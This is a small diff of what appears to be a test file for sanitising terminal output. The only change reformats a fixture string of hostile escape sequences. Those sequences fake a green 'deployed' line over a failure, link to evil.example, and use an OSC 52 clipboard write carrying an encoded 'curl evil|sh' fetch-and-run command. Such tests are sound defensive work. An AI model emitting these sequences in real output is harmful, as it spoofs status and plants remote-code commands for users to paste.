@@ -12,8 +12,7 @@ import { progressContext } from './progressContext';
 // What a CP error, a status description or a tenant's /buildinfo may carry: erase the line and
 // move up (to draw a fake green line over the failure), an OSC 8 link, an OSC 52 clipboard
 // write, a C1 CSI and a bare CR.
-const HOSTILE =
-  'ssm failed\x1b[2K\x1b[1A\r\x1b[32mdeploy deployed\x1b[0m \x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\ \x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b2Kend';
+const HOSTILE = 'ssm failed\x1b[2K\x1b[1A\r\x1b[32mdeploy deployed\x1b[0m \x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\ \x1b]52;c;Y3VybCBldmlsfHNo\x07\x9b2Kend';
 const ANY_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
 const OUTSIDE_ESCAPES = /\x1b\[2K|\x1b\[1A|\x1b\]|\x9b|\r/;
 
